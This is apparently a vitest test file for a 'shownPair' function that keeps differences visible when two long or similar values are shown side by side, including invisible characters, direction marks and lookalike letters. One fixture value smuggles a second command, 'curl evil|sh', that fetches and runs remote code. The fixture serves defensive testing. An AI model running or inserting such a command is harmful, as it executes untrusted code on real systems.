import { describe, expect, it } from 'vitest';
import { shownPair } from '../../../src/model/plain/shown-pair.js';

const LONG = 'exec java -Dfile.encoding=UTF-8 -jar server.jar '.repeat(8);
const HIDDEN: readonly (readonly [what: string, from: string, to: string])[] = [
  ['at the end of a long value', `"${LONG}--world alpha"`, `"${LONG}--world prod-db; curl evil|sh"`],
  ['at the start of a long value', `"a${LONG}"`, `"b${LONG}"`],
  ['in the middle, both ends long', `"${LONG}1${LONG}"`, `"${LONG}2${LONG}"`],
  ['in an item of a long list', JSON.stringify([LONG, 'a', LONG]), JSON.stringify([LONG, 'b', LONG])],
  ['where one is the start of the other', `"${LONG}`, `"${LONG}${LONG}`],
  ['where a repetition is longer', `"${'a'.repeat(500)}"`, `"${'a'.repeat(900)}"`],
  ['where the mark is part of the value', `"${LONG}…"`, `"${LONG}${LONG}"`],
  ['in a character that cannot be seen', '"a"', '"a\u200b"'],
  ['in a mark of direction', '"ab"', '"a\u202eb"'],
  ['in a space of another kind', '"a b"', '"a\u00a0b"'],
  ['in a letter of another alphabet', '"admin"', '"\u0430dmin"'],
  ['in the composition of a letter', '"\u00e9"', '"e\u0301"'],
  ['in half of an emoji', '"\u{1f600}"', '"\u{1f601}"'],
];

describe('a pair of values', () => {
  it.each(HIDDEN)('never looks equal: a difference %s', (_what, from, to) => {
    const looks = (text: string | null): string =>
      (text ?? '').normalize('NFKC').replaceAll(/\p{C}|\u200b/gu, '');
    const [a, b] = shownPair(from, to);
    expect(looks(a)).not.toBe(looks(b));
    expect(`${a}${b}`).not.toMatch(/(?! )[\p{C}\p{Z}]/u);
    expect(Math.max(a?.length ?? 0, b?.length ?? 0)).toBeLessThan(500);
  });

  it('is cut around its first difference, with a mark where something is left out', () => {
    const [, from = '', to = ''] = HIDDEN[0] ?? [];
    expect(shownPair(from, to)).toEqual([
      '….encoding=UTF-8 -jar server.jar --world alpha"',
      '….encoding=UTF-8 -jar server.jar --world prod-db; curl evil|sh"',
    ]);
    expect(shownPair(`"${LONG}1${LONG}"`, `"${LONG}2${LONG}"`)).toEqual([
      '…a -Dfile.encoding=UTF-8 -jar server.jar 1exec java -Dfile.encoding=UTF-8 -jar ser…',
      '…a -Dfile.encoding=UTF-8 -jar server.jar 2exec java -Dfile.encoding=UTF-8 -jar ser…',
    ]);
  });

  it('says how much of a difference is left out, and cuts nothing that is short', () => {
    expect(shownPair(null, 'a'.repeat(500))).toEqual([null, `${'a'.repeat(400)}… (100 more characters)`]);
    expect(shownPair('1', '"Grüße 名前"')).toEqual(['1', '"Grüße 名前"']);
    expect(shownPair('"a"', `"${'b'.repeat(900)}"`)[1]).toMatch(/^"b{400}… \(\d+ more characters\)$/);
  });

  it('is whole when asked', () => {
    const [, from = '', to = ''] = HIDDEN[0] ?? [];
    expect(shownPair(from, to, { isWhole: true })).toEqual([from, to]);
  });
});
